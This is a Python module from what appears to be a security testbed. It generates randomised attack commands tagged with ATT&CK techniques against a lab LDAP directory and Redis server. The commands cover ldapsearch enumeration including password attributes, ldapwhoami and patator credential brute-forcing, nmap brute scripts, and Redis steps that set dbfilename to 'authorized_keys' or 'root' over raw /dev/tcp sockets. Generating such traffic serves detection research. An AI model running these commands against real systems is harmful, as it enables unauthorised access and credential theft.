"""Questions to directories and data stores that nobody should be able to ask."""

from testbed.attacks.material import ANYWHERE, accounts, maybe, passwords, pause, text, words
from testbed.catalogue import Assault, attack

ACCOUNTS = "T1087.002"


def directory(c) -> tuple[str, str]:
    return c.server("directory").address, c.conventions.directory_base


@attack(
    "ldap_enum",
    technique=ACCOUNTS,
    tool="ldapsearch",
    origins=ANYWHERE,
    needs=("directory",),
    packages=("ldap-utils",),
    seconds=30,
)
def ldapsearch(c):
    address, base = directory(c)
    filters = c.random.sample(
        [
            "(objectClass=*)",
            "(objectClass=person)",
            "(cn=a*)",
            "(uid=*)",
            "(userPassword=*)",
            "(sn=*)",
            "(memberOf=*)",
            "(telephoneNumber=*)",
            "(objectClass=organizationalUnit)",
            "(cn=*admin*)",
            "(mail=*)",
            "(&(objectClass=person)(cn=*b*))",
        ],
        c.between(4, 10),
    )
    search = f"ldapsearch -x -LLL -H ldap://{address}"
    return Assault(
        words(
            f"{search} -s base -b '' + >/dev/null;" if c.chance(0.7) else "",
            "; ".join(
                f"{search} -b '{base}' '{one}' {c.choose('', '* +', 'cn')} >/dev/null;" f" {pause(c.between(0.0, 1.5))}"
                for one in filters
            ),
        )
    )


@attack(
    "ldap_enum",
    technique=ACCOUNTS,
    tool="nmap ldap",
    origins=ANYWHERE,
    needs=("directory",),
    packages=("nmap",),
    seconds=30,
)
def nmap_directory(c):
    address, base = directory(c)
    query = c.choose("users", "all", "custom,ldap.searchattrib=cn,ldap.searchvalue=*")
    return Assault(
        f"nmap -n -Pn -sT -p389 --script {c.choose('ldap-rootdse,ldap-search', 'ldap-search')} --script-args"
        f" 'ldap.base=\"{base}\",ldap.qfilter={query},ldap.maxobjects={c.between(10, 100)}' {address}"
    )


@attack(
    "ldap_enum",
    technique=ACCOUNTS,
    tool="ldapwhoami",
    origins=ANYWHERE,
    needs=("directory",),
    packages=("ldap-utils",),
    seconds=30,
)
def ldapwhoami(c):
    address, base = directory(c)
    return Assault(
        f"for name in $(cat {accounts(c, c.between(4, 14))}); do for password in $(cat"
        f" {passwords(c, c.between(2, 4))}); do ldapwhoami -x -H ldap://{address} -D"
        f" {c.choose('uid', 'cn')}=$name,{c.choose('', 'ou=people,')}{base} -w $password;"
        f" {pause(c.between(0.0, 0.6))}; done; done"
    )


@attack(
    "ldap_enum",
    technique=ACCOUNTS,
    tool="patator",
    origins=ANYWHERE,
    needs=("directory",),
    packages=("patator", "ldap-utils"),
    seconds=30,
)
def patator_directory(c):
    address, base = directory(c)
    return Assault(
        f"patator ldap_login host={address} binddn='cn=FILE0,{base}' bindpw=FILE1 0={accounts(c, c.between(4, 10))}"
        f" 1={passwords(c, c.between(3, 6))} -t {c.between(1, 4)} -x ignore:mesg='ldap_bind: Invalid credentials (49)'"
    )


def store(c) -> str:
    return c.server("redis").address


@attack(
    "redis_exploit",
    technique="T1190",
    tool="redis-cli",
    origins=ANYWHERE,
    needs=("redis",),
    packages=("redis-tools",),
    seconds=25,
)
def redis_cli(c):
    key, client = f"k{c.between(1, 10**6)}", f"redis-cli -h {store(c)}"
    steps = [
        "INFO >/dev/null",
        "CONFIG GET '*' >/dev/null",
        "KEYS '*' >/dev/null",
        "CLIENT LIST",
        "DBSIZE",
        "MODULE LIST",
        "CONFIG GET dir",
        "SLOWLOG GET 5",
        "ACL LIST",
        "INFO keyspace",
        "ROLE",
    ]
    looked = c.random.sample(steps, c.between(4, 8))
    planted = [
        f'SET {key} "$({text(c.between(200, 1200))})"',
        f"CONFIG SET dbfilename {c.choose('x.rdb', 'root', 'authorized_keys')}",
        f"GETRANGE {key} 0 20",
        f"DEL {key}",
    ]
    return Assault("; ".join(f"{client} {step}; {pause(c.between(0.0, 1.5))}" for step in looked + planted))


@attack("redis_exploit", technique="T1190", tool="bash", origins=ANYWHERE, needs=("redis",), seconds=25)
def redis_by_hand(c):
    steps = c.random.sample(
        [
            "INFO",
            "CONFIG GET dir",
            "KEYS *",
            "CONFIG GET *",
            "CLIENT LIST",
            "COMMAND COUNT",
            "EVAL 'return 1' 0",
            "CONFIG SET dbfilename r.rdb",
            "DBSIZE",
        ],
        c.between(4, 8),
    )
    sent = "; ".join(f"printf '%s\\r\\n' \"{step}\" >&3; {pause(c.between(0.2, 2.0))}" for step in steps)
    return Assault(
        f"exec 3<>/dev/tcp/{store(c)}/6379; timeout 20 cat <&3 >/dev/null & {sent}; printf 'SET x%s %s\\r\\n'"
        f" $RANDOM $({text(c.between(100, 900))}) >&3; printf 'QUIT\\r\\n' >&3; wait"
    )


@attack(
    "redis_exploit",
    technique="T1190",
    tool="nmap redis",
    origins=ANYWHERE,
    needs=("redis",),
    packages=("nmap",),
    seconds=30,
)
def nmap_redis(c):
    return Assault(
        f"nmap -n -Pn -sT -p6379 --script redis-info{maybe(c, 0.6, ',redis-brute')} --script-args"
        f" passdb={passwords(c, c.between(8, 30))} {store(c)}; for round in $(seq {c.between(1, 4)}); do redis-cli"
        f" -h {store(c)} SLAVEOF NO ONE; redis-cli -h {store(c)} CONFIG GET dbfilename;"
        f" {pause(c.between(0.2, 1.5))}; done"
    )
